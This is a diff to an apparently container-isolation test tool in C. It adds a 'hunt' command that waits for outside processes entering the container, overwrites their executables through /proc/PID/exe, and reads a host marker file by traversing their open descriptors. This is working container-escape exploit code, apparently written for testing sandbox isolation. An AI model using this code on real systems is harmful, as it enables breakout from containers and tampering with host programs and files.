@@ -2,6 +2,7 @@
  * probe: what a shell cannot ask of the kernel, from inside a container. Static; one word, one
  * question: probe WORD ARGUMENTS... Answers are lines on stdout.
  */
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/keyctl.h>
@@ -228,28 +229,83 @@ static int ask_args(int argc, char **argv)
 	return 0;
 }
 
-/* exe: write to the program of a process, by its link in /proc: probe exe PID TEXT. */
-static int ask_exe(int argc, char **argv)
-{
-	char path[64], again[64];
-	int fd, out = -1;
+/* What a hunt has in its hands: programs of others, by descriptors that outlive them. */
+struct prey {
+	int fd[64];
+	int n;
+};
 
-	if (argc < 2)
-		return 2;
-	snprintf(path, sizeof(path), "/proc/%s/exe", argv[0]);
+/* Is the program behind @fd one of the container's own? */
+static int prey_is_ours(int fd)
+{
+	static const char *const own[] = {"/bin/busybox", "/bin/probe", "/proc/self/exe"};
+	struct stat a, b;
+
+	if (fstat(fd, &a))
+		return 1;
+	for (unsigned i = 0; i < LENGTH(own); i++)
+		if (!stat(own[i], &b) && a.st_ino == b.st_ino && a.st_dev == b.st_dev)
+			return 1;
+	return 0;
+}
+
+/* Take the program of process @pid, and read @marker from each folder that it has open. */
+static void hunt_one(struct prey *prey, const char *pid, const char *marker)
+{
+	static const char up[] = "../../../../../../../../../../../..";
+	char path[512], text[64];
+	int fd, in;
+
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
 	fd = open(path, O_PATH);
-	if (fd < 0)
-		return 3;
-	snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
-	for (int i = 0; i < 2000 && out < 0; i++) {
-		out = open(again, O_WRONLY | O_TRUNC);
-		if (out < 0)
-			usleep(1000);
+	if (fd >= 0 && prey->n < (int)LENGTH(prey->fd) && !prey_is_ours(fd))
+		prey->fd[prey->n++] = fd;
+	else if (fd >= 0)
+		close(fd);
+	for (int i = 0; i < 64; i++) {
+		snprintf(path, sizeof(path), "/proc/%s/fd/%d/%s%s", pid, i, up, marker);
+		in = open(path, O_RDONLY | O_NONBLOCK);
+		if (in < 0)
+			continue;
+		if (read(in, text, sizeof(text)) > 0)
+			puts("marker read");
+		close(in);
 	}
-	if (out < 0)
-		return puts(strerrorname_np(errno)), 4;
-	dprintf(out, "%s", argv[1]);
-	puts("written");
+}
+
+/* hunt SECONDS MARKER TEXT: wait for processes that come into this pid namespace from outside.
+ * Write TEXT over their programs; read the file MARKER of the host by their descriptors.
+ */
+static int ask_hunt(int argc, char **argv)
+{
+	struct prey prey = {.n = 0};
+	char path[64], self[32];
+	struct dirent *e;
+	time_t end;
+	DIR *proc;
+	int fd;
+
+	if (argc < 3)
+		return 2;
+	snprintf(self, sizeof(self), "%d", getpid());
+	for (end = time(NULL) + atoi(argv[0]); time(NULL) < end;) {
+		proc = opendir("/proc");
+		while (proc && (e = readdir(proc)))
+			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp(e->d_name, self) &&
+			    strcmp(e->d_name, "1"))
+				hunt_one(&prey, e->d_name, argv[1]);
+		closedir(proc);
+		for (int i = 0; i < prey.n; i++) {
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", prey.fd[i]);
+			fd = open(path, O_WRONLY);
+			if (fd >= 0 && dprintf(fd, "%s", argv[2]) > 0)
+				puts("program written");
+			if (fd >= 0)
+				close(fd);
+		}
+		fflush(stdout);
+	}
+	printf("%d programs seen\n", prey.n);
 	return 0;
 }
 
@@ -258,7 +314,7 @@ static const struct {
 	int (*ask)(int argc, char **argv);
 } words[] = {
     {"args", ask_args},       {"call", ask_call},       {"clock", ask_clock},
-    {"core", ask_core},       {"eat", ask_eat},         {"exe", ask_exe},
+    {"core", ask_core},       {"eat", ask_eat},         {"hunt", ask_hunt},
     {"fds", ask_fds},         {"forks", ask_forks},     {"ioprio", ask_ioprio},
     {"keyring", ask_keyring}, {"sched", ask_sched},     {"session", ask_session},
     {"swap", ask_swap},       {"winsize", ask_winsize},
